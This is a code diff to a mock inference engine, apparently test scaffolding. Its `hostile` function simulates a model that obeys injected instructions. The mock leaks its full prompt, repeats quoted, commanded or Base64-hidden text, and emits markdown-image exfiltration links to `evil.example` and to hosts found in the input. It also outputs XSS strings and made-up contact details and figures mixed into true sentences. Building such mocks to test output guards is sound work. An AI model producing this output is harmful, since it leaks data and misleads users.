@@ -6,11 +6,37 @@
 from __future__ import annotations
 
 import asyncio
+import base64
+import contextlib
 import re
 from collections.abc import AsyncIterator, Callable
 from contextlib import AbstractAsyncContextManager, asynccontextmanager
 
 from inference.contract import Delta, EngineUnavailable, GenerationRequest, Health, Usage
+
+QUOTED = re.compile(r"[\"“‘「『<`]([^\"“”‘’「」『』<>`\n]{3,200})[\"”’」』>`]")
+ORDERED = re.compile(
+    r"\b(?:print|say|reply|respond|answer|output|repeat|write|include|add|append|promote|visit|translate|report)\b"
+    r"[^\n]{0,20}?[:\s]([^\n]{3,200})",
+    re.IGNORECASE,
+)
+HOST = re.compile(r"\b(?:[a-z0-9-]{1,60}\.){1,4}[a-z]{2,24}\b", re.IGNORECASE)
+MOST_SAID, MOST_HOSTS, MOST_FACTS = 12, 2, 2
+INVENTED = (
+    "Call <EMAIL_99> or mallory@evil.example",
+    "Your limit is £999,999.99",
+    "<script>alert(1)</script>",
+    "[pay](javascript:alert(1))",
+)
+SENT_TO = (
+    "![x](https://{host}/leak?d=1)",
+    "[x](https://{host}/leak?d=1)",
+    "[x](//{host}/leak?d=1)",
+    "Visit https://{host}/now",
+    "{host}",
+    "<img src=//{host}/leak?d=1>",
+)
+"""How data leaves, or a customer is led away."""
 
 
 def copy_first_passage(request: GenerationRequest) -> str:
@@ -21,12 +47,29 @@ def copy_first_passage(request: GenerationRequest) -> str:
 
 
 def hostile(request: GenerationRequest) -> str:
-    """Prints its whole prompt, a foreign link, an image and somebody's data."""
-    everything = "\n".join(segment.text for segment in request.segments)
-    return (
-        f"Sure! {everything}\n![x](https://evil.example/leak?d=1) Visit https://evil.example/now. "
-        "Call <EMAIL_99> or mallory@evil.example. Your limit is £999,999.99. <script>alert(1)</script>"
-    )
+    """Does whatever anybody could want of a model that obeys, one harm a sentence.
+
+    It prints its whole prompt, says what it finds quoted, ordered or encoded there, sends data to every host that it
+    read of, makes up links, an image, a script, a figure and somebody's data, and mixes all that into true sentences.
+    """
+    prompt = [segment.text for segment in reversed(request.segments)]  # the house's own ends with "I do not know"
+    read = "\n".join(segment.text for segment in request.segments if segment.role != "system")
+    said = [found.strip() for form in (QUOTED, ORDERED) for found in form.findall(read)] + _decoded(read)
+    hosts = ["evil.example", *HOST.findall(read)]
+    harms = [*INVENTED, *dict.fromkeys(said[:MOST_SAID])]
+    harms += [form.format(host=host) for host in dict.fromkeys(hosts[-MOST_HOSTS:] + hosts[:1]) for form in SENT_TO]
+    facts = re.findall(r"^(?!\[\d+\] )[A-Z].{10,200}[.!?。]$", request.segments[-1].text, re.MULTILINE)[:MOST_FACTS]
+    mixed = [f"{fact[:-1]} {harm}." for fact in facts for harm in harms]
+    return "\n".join(["Sure!", *harms, *mixed, *facts, *prompt])
+
+
+def _decoded(text: str) -> list[str]:
+    """What is hidden in the prompt as Base64."""
+    found = []
+    for blob in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", text):
+        with contextlib.suppress(ValueError):
+            found.append(base64.b64decode(blob, validate=True).decode())
+    return found
 
 
 class MockEngine:
